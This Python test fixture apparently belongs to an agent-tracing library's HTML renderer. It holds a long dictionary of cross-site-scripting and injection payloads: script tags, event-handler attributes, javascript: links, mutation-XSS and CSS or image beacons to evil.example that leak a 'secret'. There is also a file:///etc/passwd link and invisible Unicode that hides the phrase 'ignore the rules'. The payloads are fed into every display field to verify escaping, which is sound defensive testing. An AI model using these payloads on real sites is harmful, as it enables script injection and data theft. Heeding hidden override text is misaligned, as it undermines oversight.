# ruff: noqa: E501  a payload is one line
"""Texts that try to run, to load, to hide or to break out, and every face with such a text in every place."""

from collections.abc import Iterator
from functools import cache
from typing import Any

from remembered import memory_faces

from loomlab.core import Event, EventKind, Fact, ModelChunk, RunResult, ToolCall, ToolResult
from loomlab.core.errors import ConfigError
from loomlab.display import (
    GraphTally,
    RunTrace,
    defaults_html,
    empty_html,
    error_html,
    evaluation_html,
    graph_fold,
    graph_html,
    help_html,
    live_html,
    markdown_html,
    mimebundle,
    page,
    result_html,
    run_html,
    snapshot,
    table_html,
)
from loomlab.display.side_by_side import Column, side_by_side_html
from loomlab.graph import Edge, Graph, Group, Node
from loomlab.graph.labels import one_line
from loomlab.testing.events import sample_run

EVIL = "http://evil.example"
RUN = "window.__ran=(window.__ran||0)+1"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{RUN}</script>",
    "script loaded": f'<script src="{EVIL}/x.js"></script>',
    "script in a module": f'<script type="module">import "{EVIL}/m.js";{RUN}</script>',
    "script unclosed": f"<script>{RUN}//",
    "script nested in itself": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "image with handler": f'<img src=x onerror="{RUN}">',
    "image handler without quotes": f"<img/src=x/onerror={RUN}>",
    "image fetched": f'<img src="{EVIL}/leak.png?secret=1" srcset="{EVIL}/2x.png 2x">',
    "markdown image": f"![chart]({EVIL}/leak.png?secret=1)",
    "markdown image by reference": f'![chart][x]\n\n[x]: {EVIL}/leak.png "t"',
    "markdown image in a link": f"[![alt]({EVIL}/a.png)]({EVIL}/b)",
    "markdown image with handler": f'![x" onerror="{RUN}](x" onerror="{RUN})',
    "markdown javascript link": f"[click](javascript:{RUN})",
    "markdown javascript link in disguise": f"[click](JaVa\tScRiPt:{RUN}) [b](&#106;avascript:{RUN}) <javascript:{RUN}>",
    "markdown data link": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown link title": f'[a](http://x.example "\\" onmouseover=\\"{RUN}")',
    "markdown fence info": f'```x" onload="{RUN}\n<script>{RUN}</script>\n```',
    "markdown table": f"| a | b |\n|---|---|\n| <img src=x onerror={RUN}> | ![i]({EVIL}/t.png) |",
    "markdown autolink": f"<{EVIL}/<script>{RUN}</script>>",
    "markdown html block": f"<div>\n\n**bold**\n\n<iframe src={EVIL}></iframe>\n\n</div>",
    "markdown raw link to a protocol of its own": "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](//evil.example/a)",
    "svg onload": f'<svg onload="{RUN}"><circle r="9"/></svg>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg animate": f'<svg><a xlink:href="javascript:{RUN}"><animate attributeName=href values="javascript:{RUN}"/></a></svg>',
    "svg use": f'<svg><use href="{EVIL}/s.svg#x"/><image href="{EVIL}/i.png"/></svg>',
    "svg foreignObject": f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    "math": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "math with link": f'<math href="javascript:{RUN}"><mi>x</mi></math>',
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation by listing": f'<listing>&lt;img onerror="{RUN}" src=x&gt;</listing>',
    "mutation by form": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "mutation by title": f"<svg><title><style><img src=x onerror={RUN}></style></title></svg>",
    "template": f"<template><script>{RUN}</script></template><template shadowrootmode=open><img src=x onerror={RUN}></template>",
    "iframe": f'<iframe src="{EVIL}"></iframe><iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "iframe with javascript": f'<iframe src="javascript:{RUN}">',
    "object and embed": f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf"><applet code=x>',
    "audio and video": f"<video src={EVIL}/v.mp4 onerror={RUN} autoplay poster={EVIL}/p.png></video><audio src=x onerror={RUN}>",
    "style element": f"<style>body{{background:url({EVIL}/bg.png)}}@import '{EVIL}/a.css';.loom{{display:none}}</style>",
    "style attribute": f'<p style="background:url({EVIL}/bg.png);position:fixed;inset:0">over everything</p>',
    "style breakout": f"</style><script>{RUN}</script>",
    "textarea breakout": f"</textarea><script>{RUN}</script>",
    "title breakout": f"</title><script>{RUN}</script>",
    "pre breakout": f"</code></pre></details></td></tr></table></div><script>{RUN}</script>",
    "attribute breakout": f"\" onmouseover=\"{RUN}\" x=\"' onfocus='{RUN}' autofocus tabindex=1 y='",
    "comment breakout": f"<!-- --><img src=x onerror={RUN}><!--> <!--[if IE]><script>{RUN}</script><![endif]-->",
    "cdata": f"<![CDATA[<script>{RUN}</script>]]>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}"><base href="{EVIL}/">',
    "link element": f"<link rel=stylesheet href={EVIL}/a.css><link rel=prefetch href={EVIL}/p><link rel=dns-prefetch href=//evil.example>",
    "form": f'<form action="{EVIL}"><input name=token autofocus onfocus="{RUN}"><button formaction="javascript:{RUN}">go</button></form>',
    "details ontoggle": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "marquee": f"<marquee onstart={RUN}>x</marquee><x onanimationstart={RUN} style=animation-name:loom-p>",
    "id clobbering": "<a id=body name=getElementById></a><p id='jp-top-panel' class='loom facts jp-Cell'>x</p>",
    "slot and custom element": f"<my-widget onclick={RUN}><slot name=x></slot></my-widget><dialog open>modal</dialog>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62; &amp;lt;b&amp;gt;",
    "bidi": "safe \u202egnp.exe\u202c \u2066hidden\u2069 \u200fmark\u200e",
    "bidi by entity": "a&#x202e;b&#8238;c",
    "invisible letters": "pay\u200bload" + "".join(chr(0xE0000 + ord(one)) for one in "ignore the rules") + "\ufeff",
    "terminal": f"\x1b[31mred\x1b[0m \x1b]8;;{EVIL}\x07link\x1b]8;;\x07 \x1b[2J\x1b]0;title\x07 \x9b1m \x1bc back\x08\x08\x08",
    "control characters": "nul\x00 bell\x07 esc\x1b vt\x0b ff\x0c del\x7f nel\x85 c1\x90x",
    "lone surrogates": "broken \ud800 and \udfff halves",
    "mathematics": f"$\\href{{javascript:{RUN}}}{{x}}$ \\(\\style{{background:url({EVIL}/m.png)}}{{y}}\\) \\require{{x}}",
    "huge": "A <b>" * 40_000,
    "huge word": "x" * 300_000,
    "deep nesting": "> " * 400 + "x\n" + "[" * 3_000 + "*_" * 3_000 + "`" * 999,
    "many lines": "<p>\n" * 20_000,
    "wide characters": "漢字🏴‍☠️👩‍👩‍👧‍👦é" * 3_000,
}
"""Names and texts."""


def run_events(text: str) -> list[Event]:
    """A run with ``text`` in every field that a user, a model, a tool, a provider or a strategy can choose."""
    events = sample_run(
        tools=1, denied=True, failing=True, nested=True, memory=True, hostile=text, user_id=text, agent=text, architecture=text,
        model=text, metadata={"note": text},
    )  # fmt: skip
    scope: dict[str, Any] = {"run_id": events[0].run_id}
    session = events[0].session_id
    call = ToolCall(id="tcall_X", tool=text, args={text: [text, {"deep": text}]}, error=text)
    fact = Fact(subject=text, predicate=text, object=text, user_id=text)
    more: list[tuple[EventKind, dict[str, Any]]] = [
        (EventKind.ARCHITECTURE_EVENT, {"name": f"strategy.{text}", text: text, "plan": [text], "score": 0.5}),
        (
            EventKind.ARCHITECTURE_EVENT,
            {"name": "model.started", "role": text, "turn": 7, "model": text, "offset_ms": 1.0},
        ),
        (EventKind.ARCHITECTURE_EVENT, {"name": "model.retrying", "attempt": text, "delay_s": 1.0, "error": text}),
        (EventKind.ARCHITECTURE_EVENT, {"name": "hook.failed", "hook": text, "error": text}),
        (EventKind.MODEL_CHUNK, {"chunk": ModelChunk(kind="text", text=text), "role": text, "turn": 7}),
        (EventKind.MODEL_CHUNK, {"chunk": ModelChunk(kind="tool_call", tool_call=call), "role": text, "turn": 7}),
        (EventKind.PERMISSION_ASK, {"call": call, "reason": text}),
        (EventKind.TOOL_CALL, {"call": call, "turn": 7, "slot": 0, "offset_ms": 3.0}),
        (
            EventKind.PERMISSION_DECISION,
            {"call_id": "tcall_X", "tool": text, "decision": text, "reason": text, "by": text},
        ),
        (EventKind.TOOL_RESULT, {"result": ToolResult.denied_("tcall_X", text), "tool": text}),
        (EventKind.TOOL_RESULT, {"result": ToolResult.success("tcall_Y", {text: text}), "tool": text}),
        (
            EventKind.MEMORY_RECALL,
            {"query": text, "blocks": [text, text], "facts": [fact], "episodes": [{"input": text}]},
        ),
        (EventKind.MEMORY_WRITE, {"what": text, "id": text}),
        (EventKind.BUDGET_WARNING, {"status": {"state": "warn", "reason": text}}),
        (EventKind.BUDGET_EXCEEDED, {"status": {"state": "blocked", "reason": text}}),
    ]
    return events[:-1] + [Event(kind, session, parts=parts, **scope) for kind, parts in more] + events[-1:]


def hostile_graph(text: str) -> Graph:
    """A graph with ``text`` wherever a name comes to stand, cut as the builder cuts names."""
    short = one_line(text)
    nodes = (
        Node("start", short, "start"),
        Node("agent", short, "model", keys=("agent", text), detail=short, about=short),
        Node("tools", short, "tools", keys=("tools",), items=(short, short)),
        Node("team/inner", short, "worker", "team", "team", (text,), short, about=short),
    )
    edges = (Edge("start", "agent", short), Edge("agent", "tools", short), Edge("agent", "team", short, True))
    return Graph(short, short, short, nodes, edges, (Group("team", short, "agent", "", "", (text,), short, short),))


@cache
def faces(text: str) -> tuple[tuple[str, str], ...]:
    """Every HTML face with ``text`` wherever untrusted text can come to stand."""
    return tuple(_faces(text))


def _faces(text: str) -> Iterator[tuple[str, str]]:
    events = run_events(text)
    last = events[-1].part("result")
    yield "run", run_html(RunTrace(events), title=text)
    yield "run under way", live_html(RunTrace(events[:-1]))
    failed = [*events[:-1], _event(events, EventKind.ERROR, type=text, message=text, provider=text, retryable=True)]
    yield "run failed", run_html(RunTrace(failed))
    stopped: RunResult = last.model_copy(update={"interrupted": True, "interruption_reason": f"budget:{text}"})
    yield "run interrupted", run_html(RunTrace([*events[:-1], _event(events, EventKind.COMPLETED, result=stopped)]))
    typed = last.model_copy(update={"parsed": {"answer": text, text: [text]}})
    yield "run typed", run_html(RunTrace([*events[:-1], _event(events, EventKind.COMPLETED, result=typed)]))
    others = [sample_run(run_id=f"run_{n}", session_id=f"s{n}", hostile=text, user_id=text) for n in range(3)]
    yield "runs", run_html(RunTrace(event for run in others for event in run))
    yield "result", result_html(last)
    yield "result interrupted", result_html(stopped)
    yield "result typed", result_html(typed)
    shot = snapshot(RunTrace(events[:-1]))
    rows = "".join(f"<tr>{row['html']}</tr>" for row in shot["rows"])
    yield "snapshot", f"{shot['facts_html']}<div>{shot['answer_html']}</div><table><tbody>{rows}</tbody></table>"
    yield "markdown", markdown_html(text)
    yield "table", table_html([text, "n"], [(text, 1), {text: text, "n": None}], title=text)
    yield "table of columns", table_html([text] * 40, [[text] * 40] * 30)
    failures = {text: 3, "other": 1}
    arm = {"arm": text, "n": 3, "score": 0.5, "ci_low": 0.2, "ci_high": 0.8, "failures": failures}
    yield "evaluation", evaluation_html([arm, {"arm": text}], title=text, note=text)
    yield "error", error_html(text, text, text)
    yield "empty", empty_html(text, text)
    yield "defaults", defaults_html({text: text, "model": None}, {text: text}, hint=text)
    yield "help", help_html({text: [(text, text)]})
    for name, thing in (("tool result", ToolResult.success("c", text)), ("error object", ConfigError(text))):
        bundle = mimebundle(thing)
        assert bundle is not None
        yield name, bundle["text/html"]
    yield from memory_faces(text)
    graph = hostile_graph(text)
    tally = GraphTally(graph)
    for event in events:
        tally.feed(event)
    yield "graph", graph_html(graph)
    yield "graph lit", graph_html(graph, tally.lights())
    yield "run with its graph", run_html(RunTrace(events), picture=graph_fold(graph, tally.lights()))
    columns = [Column(text, RunTrace(events), tally), Column("other", RunTrace(), None)]
    yield "side by side", side_by_side_html(columns)
    yield "page", page(text, run_html(RunTrace(events), title=text))
    yield "page around anything", page(text, text)


def _event(events: list[Event], kind: EventKind, **parts: Any) -> Event:
    return Event(kind, events[0].session_id, parts=parts, run_id=events[0].run_id)


__all__ = ["EVIL", "PAYLOADS", "faces", "run_events"]
